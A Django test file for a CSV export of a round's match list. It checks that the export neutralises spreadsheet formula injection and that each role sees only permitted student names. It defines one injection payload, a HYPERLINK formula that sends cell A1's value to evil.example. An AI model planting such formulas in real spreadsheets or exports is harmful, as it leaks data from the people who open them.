"""The round's match list as a download: formula-proof, and only what its reader may see."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse

from accounts.models import Role
from accounts.tests.factories import UserFactory
from companies.models import Company
from matching.tests.conftest import World
from matching.tests.test_rounds import _release
from students.models import Student

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _rows(client: Client, world: World) -> list[dict[str, str]]:
    response = client.get(reverse("matching:export", kwargs={"pk": world.round.pk}))
    assert response.status_code == 200
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_a_company_name_cannot_run_as_a_formula(reviewed: World) -> None:
    Company.objects.filter(pk=reviewed.offers[0].company_id).update(legal_name=EVIL)
    client = Client()
    client.force_login(reviewed.coordinator)
    companies = {row["bedrijf"] for row in _rows(client, reviewed)}
    assert "'" + EVIL in companies
    assert EVIL not in companies


def test_after_release_each_reader_sees_only_the_names_they_may_see(reviewed: World) -> None:
    _release(reviewed)
    # Half of the students are counselled by reviewer 1, half by reviewer 2: each may only
    # see their own.
    others = reviewed.students[::2]
    Student.objects.filter(pk__in=[s.pk for s in others]).update(counsellor=reviewed.reviewer2)
    own = [s.pk for s in reviewed.students if s not in others]
    Student.objects.filter(pk__in=own).update(counsellor=reviewed.reviewer)
    names = {s.user.full_name for s in reviewed.students}
    own_names = {s.user.full_name for s in reviewed.students if s not in others}
    for user, expected in [
        (reviewed.coordinator, names),
        (reviewed.reviewer, own_names),
        (reviewed.reviewer2, names - own_names),
        (
            UserFactory.create(role=Role.CARE_COORDINATOR, institution=reviewed.round.institution),
            names,
        ),
    ]:
        client = Client()
        client.force_login(user)
        rows = _rows(client, reviewed)
        assert {r["naam"] for r in rows if r["naam"]} == expected, user.role
        assert all(r["pseudoniem"] for r in rows)
